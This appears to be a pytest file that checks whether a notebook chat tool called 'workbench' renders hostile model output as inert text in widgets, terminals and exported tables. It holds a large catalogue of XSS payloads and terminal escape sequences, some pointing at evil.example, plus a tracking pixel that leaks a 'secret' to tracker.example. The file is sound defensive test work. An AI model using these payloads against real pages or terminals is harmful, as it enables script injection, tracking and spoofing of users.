"""Model output as an attacker: replies, tool arguments and tool results full of script, event
handlers, ``javascript:`` links (obfuscated too), frames, style, CSS ``url()``, SVG and Markdown
link tricks render as inert text wherever workbench shows them:

* the widget's HTML (``message_to_html``, through the widget's synced transcript);
* the text fallback (transcripts, one turn, the grid's table, what the magics print in a
  terminal): terminal escape sequences and bidi controls are shown escaped, not acted on;
* exported HTML: a DataFrame of the transcript as pandas renders it (``to_html``, the notebook's
  ``_repr_html_``), and a notebook with the widget's outputs as nbconvert exports it (see
  ``test_hostile_export.py``).

The real-browser side (the streaming path of ``widget.js``) is ``test_hostile_browser.py``.
"""

from __future__ import annotations

import json
import re
from collections import Counter
from typing import Any

import httpx
import pandas as pd
import pytest
from IPython.core.interactiveshell import InteractiveShell

import workbench
from tests._mock import chunk_json, make_client, sse_body, sse_response
from tests.test_render import assert_inert, elements
from workbench.conversation import Conversation
from workbench.conversation._history import Message
from workbench.widgets._plain_text import message_text_block, transcript_text, turn_text
from workbench.widgets._render import markdown_to_html, message_to_html

# Each attack sets window.__pwned (or loads something from evil.example / tracker.example) if it
# ever runs or loads; the browser tests watch for both.
ATTACKS: dict[str, str] = {
    "script": "<script>window.__pwned=1</script>",
    "img-onerror": '<img src=x onerror="window.__pwned=1">',
    "svg-onload": '<svg onload="window.__pwned=1"><circle r=5 /></svg>',
    "svg-script": "<svg><script>window.__pwned=1</script></svg>",
    "svg-use": (
        '<svg><use href="data:image/svg+xml,<svg id=x xmlns=http://www.w3.org/2000/svg>'
        '<image href=1 onerror=window.__pwned=1 /></svg>#x"/></svg>'
    ),
    "iframe": '<iframe src="https://evil.example/"></iframe>',
    "iframe-srcdoc": '<iframe srcdoc="<script>parent.__pwned=1</script>"></iframe>',
    "style-hides-the-page": "<style>body, .wb-widget { display: none !important }</style>",
    "style-import": '<style>@import url("https://evil.example/x.css");</style>',
    "link-stylesheet": '<link rel="stylesheet" href="https://evil.example/x.css">',
    "css-url": "<div style=\"background:url('https://evil.example/t.png')\">x</div>",
    "css-expression": '<p style="width: expression(window.__pwned=1)">x</p>',
    "md-javascript": "[click](javascript:window.__pwned=1)",
    "md-mixed-case": "[click](JaVaScRiPt:window.__pwned=1)",
    "md-tab-entity": "[click](jav&#x09;ascript:window.__pwned=1)",
    "md-newline-entity": "[click](jav&#x0A;ascript:window.__pwned=1)",
    "md-decimal-entities": (
        "[click](&#106;&#97;&#118;&#97;&#115;&#99;&#114;&#105;&#112;&#116;&#58;window.__pwned=1)"
    ),
    "md-padded-entity": "[click](&#0000106;avascript:window.__pwned=1)",
    "md-percent-colon": "[click](javascript%3Awindow.__pwned=1)",
    "md-angle-destination": "[click](<javascript:window.__pwned=1>)",
    "md-leading-control": "[click](\x01javascript:window.__pwned=1)",
    "md-vbscript": "[click](vbscript:msgbox(1))",
    "md-livescript": "[click](livescript:window.__pwned=1)",
    "md-data-html": "[click](data:text/html;base64,PHNjcmlwdD5wYXJlbnQuX19wd25lZD0xPC9zY3JpcHQ+)",
    "md-data-svg": "[click](data:image/svg+xml;base64,PHN2ZyBvbmxvYWQ9YWxlcnQoMSk+)",
    "md-reference": "[click][evil]\n\n[evil]: javascript:window.__pwned=1",
    "md-reference-title": (
        '[click][r]\n\n[r]: https://ok.example "x\\" onmouseover=\\"window.__pwned=1"'
    ),
    "md-title": '[click](https://ok.example "a\\" onmouseover=\\"window.__pwned=1")',
    "md-autolink-javascript": "<javascript:window.__pwned=1>",
    "md-autolink-data": "<data:text/html,<script>parent.__pwned=1</script>>",
    "md-nested-brackets": "[[inner](javascript:window.__pwned=1)](https://ok.example)",
    "md-nested-image": "[![x](javascript:window.__pwned=1)](javascript:window.__pwned=2)",
    "md-image-javascript": "![x](javascript:window.__pwned=1)",
    "md-image-remote": "![pixel](https://tracker.example/p.png?leak=secret)",
    "md-image-svg": "![x](data:image/svg+xml,<svg onload=window.__pwned=1>)",
    "md-image-raster-breakout": '![x](data:image/png;base64,AAAA"onerror="window.__pwned=1)',
    "md-entity-tag": "&lt;script&gt;window.__pwned=1&lt;/script&gt;",
    "md-code-info-string": '```"><img src=x onerror=window.__pwned=1>\ncode\n```',
    "md-code-html": "```html\n<script>window.__pwned=1</script>\n```",
    "md-table": "| a | b |\n|---|---|\n| <img src=x onerror=window.__pwned=1> | [x](javascript:) |",
    "comment-breakout": "<!--><img src=x onerror=window.__pwned=1>-->",
    "noscript-mxss": '<noscript><p title="</noscript><img src=x onerror=window.__pwned=1>">',
    "svg-style-mxss": "<svg><style><img src=x onerror=window.__pwned=1></style></svg>",
    "math-href": '<math><maction xlink:href="javascript:window.__pwned=1">x</maction></math>',
    "form": '<form action="https://evil.example"><input autofocus onfocus="window.__pwned=1">',
    "details-ontoggle": '<details open ontoggle="window.__pwned=1"><summary>x</summary></details>',
    "object-embed": '<object data="https://evil.example/x"></object><embed src="https://evil.example/y">',
    "base": '<base href="https://evil.example/">',
    "meta-refresh": '<meta http-equiv="refresh" content="0;url=javascript:window.__pwned=1">',
    "img-srcset": '<img srcset="https://evil.example/a.png 1x">',
    "a-javascript": '<a href="javascript:window.__pwned=1">x</a>',
    "forged-media-placeholder": (
        '<span class="wb-media wb-media-image" data-wb-kind="image" data-wb-hash="'
        + "ab" * 32
        + '"><span class="wb-media-label">x</span></span>'
        '<span class="wb-media" data-wb-kind="audio" data-wb-hash="' + "0" * 64 + '">y</span>'
    ),
    "a-data": '<a href="data:text/html,<script>parent.__pwned=1</script>">x</a>',
    "closing-tags": "</div></div></pre></textarea><script>window.__pwned=1</script>",
    "attribute-breakout": '"><img src=x onerror=window.__pwned=1>',
    "template": "<template><img src=x onerror=window.__pwned=1></template>",
}
ATTACK_IDS = list(ATTACKS)
# Terminal escapes and controls that would act on a terminal (clear, retitle, hyperlink, move,
# overwrite, bell, bidi reorder) if printed as they are.
TERMINAL = (
    "\x1b[2J\x1b[H cleared \x1b]0;retitled\x07 \x1b]8;;https://evil.example\x1b\\link\x1b]8;;"
    "\x1b\\ \x9b31m 8-bit CSI \rover\x08written \x00 \u202eevil\u2066 \x1bc"
)
RAW_CONTROL = re.compile(r"[\x00-\x08\x0b-\x1f\x7f-\x9f\u2028\u2029\u202a-\u202e\u2066-\u2069]")


# -- a model whose every output is an attack ------------------------------------------------------


def lookup(query: str) -> str:
    """Look something up."""
    return query  # the tool result carries the attack back too


def hostile_server(attack: str) -> Any:
    """A server that answers the first request with two streamed tool calls (one to ``lookup``
    with the attack as its argument, one to a tool named by the attack) and the second with
    the attack as the reply's text."""
    first = [
        chunk_json({"role": "assistant", "content": None}),
        chunk_json({"tool_calls": [{"index": 0, "id": "call_a", "type": "function",
                                    "function": {"name": "lookup", "arguments": ""}}]}),
        chunk_json({"tool_calls": [{"index": 0,
                                    "function": {"arguments": json.dumps({"query": attack})}}]}),
        chunk_json({"tool_calls": [{"index": 1, "id": "call_b", "type": "function",
                                    "function": {"name": attack[:60], "arguments": attack}}]}),
        chunk_json({}, finish_reason="tool_calls"),
    ]  # fmt: skip
    second = [chunk_json({"role": "assistant", "content": ""})]
    second += [chunk_json({"content": attack[i : i + 7]}) for i in range(0, len(attack), 7)]
    second += [chunk_json({}, finish_reason="stop")]
    answers = iter([first, second])

    def handler(request: httpx.Request) -> httpx.Response:
        return sse_response(sse_body(*next(answers, second)))

    return handler


def hostile_chat(attack: str, **kwargs: Any) -> Conversation:
    """A conversation with one turn of the hostile server: both tool calls, their results (one
    the attack, one the error for the unknown tool), then the attack as the reply."""
    chat = workbench.Conversation(
        client=make_client("sync", hostile_server(attack)),
        model="gpt-4o-mini",
        tools=[lookup],
        log=False,
        **kwargs,
    )
    chat.send(f"Look this up: {attack}")
    return chat


# -- the widget's HTML ----------------------------------------------------------------------------


def text_of(fragment: str) -> str:
    """The text a browser shows for ``fragment`` (entities decoded, tags gone)."""
    from html.parser import HTMLParser

    parts: list[str] = []

    class Text(HTMLParser):
        def handle_data(self, data: str) -> None:
            parts.append(data)

    parser = Text(convert_charrefs=True)
    parser.feed(fragment)
    parser.close()
    return "".join(parts)


@pytest.mark.parametrize("attack", ATTACKS.values(), ids=ATTACK_IDS)
def test_a_hostile_turn_renders_inert_in_every_message(attack: str) -> None:
    chat = hostile_chat(attack)
    roles = [m.role for m in chat.messages]
    assert roles == ["user", "assistant", "tool", "tool", "assistant"], roles
    results = {m.tool_call_id: m for m in chat.messages if m.role == "tool"}
    for message in chat.messages:
        assert_inert(message_to_html(message, tool_results=results), remote_images=True)
    call = message_to_html(chat.messages[1], tool_results=results)
    shown = json.dumps(attack, ensure_ascii=False)
    assert shown in text_of(call), "the arguments are shown as text, not dropped"


@pytest.mark.parametrize("attack", ATTACKS.values(), ids=ATTACK_IDS)
def test_every_field_of_a_message_renders_inert(attack: str) -> None:
    call = {"id": "c", "type": "function", "function": {"name": attack, "arguments": attack}}
    reply = Message(
        role="assistant", content=attack, refusal=attack, tool_calls=[call], parsed={"x": attack}
    )
    reply.status, reply.error = "error", attack
    long_result = Message(role="tool", tool_call_id="c", content=attack * 40)
    for html in (
        message_to_html(reply, tool_results={"c": long_result}),
        message_to_html(reply, tool_results={"c": Message(role="tool", error=attack)}),
        message_to_html(Message(role="user", content=attack)),
        message_to_html(Message(role="tool", content=attack, error=attack)),
        markdown_to_html(f"before {attack} after\n\n> {attack}\n\n- {attack}"),
    ):
        assert_inert(html, remote_images=True)
    shown = text_of(message_to_html(Message(role="user", content=attack)))
    assert attack.replace("\x01", "") in shown.replace("\x01", ""), "a user's text is shown whole"


def test_no_hostile_reply_makes_the_page_load_anything() -> None:
    """Only ``data:`` raster images may load from a model's Markdown; a remote image is a link."""
    for attack in ATTACKS.values():
        html = markdown_to_html(attack)
        for tag, attrs in elements(html):
            names = dict(attrs)
            assert "src" not in names or str(names["src"]).startswith("data:image/"), (tag, attrs)
            assert tag not in ("link", "iframe", "object", "embed", "video", "audio", "source")


# -- the widget's synced state -------------------------------------------------------------------


@pytest.mark.usefixtures("recording_comm")
@pytest.mark.parametrize("attack", ATTACKS.values(), ids=ATTACK_IDS)
def test_the_widget_state_and_its_messages_carry_only_inert_html(attack: str) -> None:
    from workbench.widgets._widget import ConversationWidget

    chat = workbench.Conversation(
        client=make_client("sync", hostile_server(attack)),
        model="gpt-4o-mini",
        tools=[lookup],
        log=False,
    )
    view = ConversationWidget(chat)
    chat.send(f"Look this up: {attack}")
    state = view.get_state()
    for entry in state["messages_html"]:
        assert_inert(entry["html"], remote_images=True)
    sent = view.comm.messages  # type: ignore[union-attr]
    for message in sent:
        for entry in _entries(message):
            assert_inert(entry["html"], remote_images=True)
    streamed = [m["content"] for m in sent if m["method"] == "custom"]
    assert any(m.get("type") == "delta" for m in streamed), "the reply streamed as text deltas"


def _entries(message: dict[str, Any]) -> list[dict[str, Any]]:
    """The transcript entries a comm message carries (a state update or a patch)."""
    found: list[dict[str, Any]] = []

    def walk(value: Any) -> None:
        if isinstance(value, dict):
            if isinstance(value.get("html"), str):
                found.append(value)
            for item in value.values():
                walk(item)
        elif isinstance(value, list):
            for item in value:
                walk(item)

    walk(message.get("state") or message.get("content"))
    return found


# -- the text fallback ---------------------------------------------------------------------------


def assert_no_raw_controls(text: str) -> None:
    found = RAW_CONTROL.findall(text)
    assert not found, f"raw control characters would act on a terminal: {found!r}"


def test_transcripts_show_terminal_escapes_instead_of_running_them() -> None:
    chat = hostile_chat(TERMINAL, system=f"system {TERMINAL}")
    chat.params.metadata = {"k": TERMINAL}
    for text in (transcript_text(chat), turn_text(chat, 0)):
        assert_no_raw_controls(text)
        assert "\\x1b[2J" in text and "\\u202eevil" in text and "\\x9b31m" in text
    for message in chat.messages:
        assert_no_raw_controls(message_text_block(message))


@pytest.mark.usefixtures("recording_comm")
def test_the_widget_text_fallback_shows_escapes_instead_of_running_them() -> None:
    from workbench.widgets._widget import ConversationWidget

    chat = hostile_chat(TERMINAL)
    for view in (ConversationWidget(chat), ConversationWidget(chat, start=0, compact=True)):
        bundle = view._repr_mimebundle_()
        assert bundle is not None
        assert_no_raw_controls(bundle[0]["text/plain"])


def test_the_grids_text_table_shows_escapes_instead_of_running_them() -> None:
    from workbench.widgets import grid_text

    grid = workbench.Grid(
        [f"Say {TERMINAL}"],
        models=["m1"],
        client=workbench.AsyncClient(local=True),
    )
    grid.run(display=False)
    text = grid_text(grid)
    assert_no_raw_controls(text)
    assert "\\x1b[2J" in text


@pytest.fixture
def terminal_shell(monkeypatch: pytest.MonkeyPatch) -> Any:
    """IPython in a terminal (no kernel): the magics print text, as they would to a tty."""
    monkeypatch.setenv("WORKBENCH_LOG", "")
    shell = InteractiveShell.instance()
    shell.reset(new_session=True)
    shell.run_line_magic("load_ext", "workbench")
    yield shell
    shell.run_line_magic("unload_ext", "workbench")
    shell.reset(new_session=True)


def test_what_the_magics_print_in_a_terminal_shows_escapes(
    terminal_shell: Any, capsys: pytest.CaptureFixture[str]
) -> None:
    chat = workbench.Conversation(client=make_client("sync", hostile_server(TERMINAL)), log=False)
    chat.tool(lookup)
    terminal_shell.user_ns["chat"] = chat
    terminal_shell.run_cell("%%chat chat\nAnother turn")  # streamed to stdout
    terminal_shell.run_cell("%wb history chat")
    terminal_shell.run_cell("%wb params chat")
    out = capsys.readouterr()
    assert TERMINAL[:10].encode("unicode_escape").decode() in out.out.replace("\\\\", "\\")
    assert_no_raw_controls(out.out)
    assert_no_raw_controls(out.err)


def test_a_hostile_servers_error_and_model_list_print_escaped(
    terminal_shell: Any, capsys: pytest.CaptureFixture[str]
) -> None:
    def handler(request: httpx.Request) -> httpx.Response:
        if request.url.path.endswith("/models"):
            return httpx.Response(
                200, json={"object": "list", "data": [{"id": TERMINAL, "object": "model",
                                                       "created": 0, "owned_by": "x"}]}
            )  # fmt: skip
        return httpx.Response(400, json={"error": {"message": TERMINAL}})

    magics = terminal_shell.magics_manager.registry["WorkbenchMagics"]
    magics._client = make_client("sync", handler, max_retries=0)
    terminal_shell.run_cell("%wb models")
    result = terminal_shell.run_cell("%chat hello")
    assert result.error_in_exec is not None
    out = capsys.readouterr()
    assert_no_raw_controls(out.out)
    assert_no_raw_controls(str(result.error_in_exec))


# -- exported HTML: DataFrames -------------------------------------------------------------------


def structure(html: str) -> Counter[tuple[str, tuple[str, ...]]]:
    """The elements of ``html`` by tag and attribute names (what content could add)."""
    return Counter((tag, tuple(sorted(name for name, _ in attrs))) for tag, attrs in elements(html))


def frames(chat: Conversation) -> dict[str, pd.DataFrame]:
    return {
        "to_dataframe": chat.to_dataframe(branches=True),
        "usage_dataframe": chat.usage_dataframe(),
    }


@pytest.mark.parametrize("attack", ATTACKS.values(), ids=ATTACK_IDS)
def test_exported_tables_render_as_escaped_html(attack: str) -> None:
    """A DataFrame of the transcript as a notebook shows it (``_repr_html_``) or as it is saved
    (``to_html``): the attack adds no element; it is text in a cell."""
    hostile, benign = frames(hostile_chat(attack)), frames(hostile_chat("x" * len(attack)))
    for name, frame in hostile.items():
        for render in ("to_html", "_repr_html_"):
            html, plain = getattr(frame, render)(), getattr(benign[name], render)()
            assert structure(html) == structure(plain), (name, render)
            first = attack.replace("\x01", "").split("\n")[0][:20]
            assert first in text_of(html).replace("\x01", ""), "shown as text"


def test_grid_result_tables_render_as_escaped_html() -> None:
    def tables(prompt: str) -> list[pd.DataFrame]:
        grid = workbench.Grid(
            [f"Repeat: {prompt}"], models=["m1", "m2"], client=workbench.AsyncClient(local=True)
        )
        result = grid.run(display=False)
        return [result.to_dataframe(), result.pivot("output")]

    attack = ATTACKS["img-onerror"] + ATTACKS["script"]
    for hostile, benign in zip(tables(attack), tables("x" * len(attack)), strict=True):
        for render in ("to_html", "_repr_html_"):
            html = getattr(hostile, render)()
            assert structure(html) == structure(getattr(benign, render)())
            assert "&lt;img src=x" in html
